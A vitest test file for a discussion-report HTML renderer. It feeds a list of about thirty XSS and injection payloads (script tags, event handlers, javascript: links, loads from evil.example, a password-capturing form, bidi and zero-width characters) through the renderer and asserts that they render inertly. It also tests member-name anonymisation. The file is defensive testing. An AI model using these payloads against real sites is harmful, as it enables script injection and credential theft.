import { describe, expect, it } from 'vitest';
import { reportInput } from '../input.ts';
import { inputOf, persona } from '../report.fixture.ts';
import { reportOf } from '../report.ts';
import { withoutMembers } from '../without-members.ts';
import { reportHtml } from './html.ts';
import { previewSvg } from './preview.ts';

/** What somebody might have a discussion say, so that the page of its report does something. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '</style><style>*{display:none}</style>',
  '"><script src=//evil.example/x.js></script>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '</title><script>alert(1)</script>',
  '</p></section></main><iframe src=https://evil.example></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[x](javascript:alert(1)) ![y](https://evil.example/pixel.png)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password></form>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '@everyone @here <@123456> <!channel> <#42>',
  'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
  '\u202Egpj.exe\u202C \u2066x\u2069 \u200Fy',
  'e\u0301\u0301\u0301'.repeat(300),
  '\u0000\u0001\u0008\u001B[31mred\u001B[0m\u007F',
  '\uD800 lone \uDFFF',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  'data:text/html,<script>alert(1)</script>',
  `${'x'.repeat(1_000_000)}<script>alert(1)</script>`,
  `${'<b>'.repeat(50_000)}`,
];

const tags = (html: string) =>
  new Set(
    [...html.replace(/<style>[\s\S]*?<\/style>/u, '').matchAll(/<\/?([a-z0-9!]+)/giu)].map(([, tag]) => tag?.toLowerCase()),
  );
const plain = tags(reportHtml(reportOf(made('Buses')), { pictures: { charts: {}, faces: {} } }));

function made(evil: string) {
  const short = evil.slice(0, 2_000);
  return inputOf(
    {
      topic: short,
      castReason: short,
      plan: { mode: 'consensus' },
      personas: [{ ...persona('ana', short), profession: short, field: short, knowledge: [short] }, persona('ben', 'Ben Okoye')],
      lines: [
        { by: 'ana', text: evil },
        { by: `@${short}`, text: evil },
        { by: 'ben', text: 'I see it otherwise, because it costs a lot.', replyTo: 1 },
      ],
      decided: {
        frame: { proposition: short },
        'ballot/before/ana': { position: 1, reason: short, turn: null },
        'ballot/after/ana': { position: -1, reason: short, turn: 3 },
        statement: { statement: short },
        'sign/ana': { signs: false, dissent: short },
      },
      written: { overview: { claims: [{ text: short, evidence: [{ turn: 1, quote: evil, speaker: short }] }], dropped: 0 } },
    },
    { linkOf: () => short },
  );
}

describe(`${HOSTILE.length} hostile transcripts`, () => {
  it.each(HOSTILE.map((evil, i) => [i, evil.slice(0, 40), evil] as const))(
    '%i %s is shown as text, and does nothing',
    (_i, _shown, evil) => {
      const report = reportOf(made(evil));
      const html = reportHtml(report, {
        pictures: { charts: {}, faces: {} },
        meta: [{ name: 'og:title', content: report.topic }],
      });
      for (const tag of tags(html)) expect(plain.has(tag) || tag === 'a', tag).toBe(true);
      const marks = (html.match(/<[^>]*>/gu) ?? []).map((mark) => mark.replace(/"[^"]*"/gu, '""')).join('');
      const attributes = [...marks.matchAll(/\s([a-z-]+)=/giu)].map(([, name]) => name?.toLowerCase());
      expect(attributes.filter((name) => name?.startsWith('on'))).toEqual([]);
      for (const [, href = ''] of html.matchAll(/href="([^"]*)"/gu)) expect(href).toMatch(/^#/u);
      expect(html).not.toMatch(/[\p{Bidi_Control}\u200B\uFEFF]|(?!\n)\p{Cc}/u);
      expect(html.isWellFormed()).toBe(true);
      expect(previewSvg(report)).not.toMatch(/<(?!\/?(?:svg|rect|text)\b)/u);
    },
  );
});

it('members are called by numbers, also where personas call them by name, and quotes still stand', () => {
  const input = inputOf({
    personas: [persona('ana', 'Ana Lima'), persona('ben', 'Ben Okoye')],
    lines: [
      { by: '@Dana Lima', text: 'I am Dana. What about Lima?' },
      { by: 'ben', text: 'Good question, Dana: nobody in Danaland pays for it.', replyTo: 1 },
    ],
    written: {
      overview: {
        claims: [{ text: 'Ben answers Dana.', evidence: [{ turn: 2, quote: 'Good question, Dana', speaker: '' }] }],
        dropped: 0,
      },
    },
  });
  const hidden = withoutMembers({ id: 'd1', discussion: input.discussion, events: input.events, calls: [] });
  const events = JSON.stringify(hidden.events);
  expect(events).not.toMatch(/Dana\b/u);
  // The persona keeps her name, and so does a word that only begins alike.
  expect(events).toContain('Ana Lima');
  expect(events).toContain('Danaland');
  const report = reportOf(reportInput(hidden));
  expect(report.quotes).toEqual({ cited: 1, dropped: 0 });
  expect(report.sections[0]?.claims[0]).toMatchObject({
    text: 'Ben answers Member 1.',
    evidence: [{ quote: 'Good question, Member 1' }],
  });
});
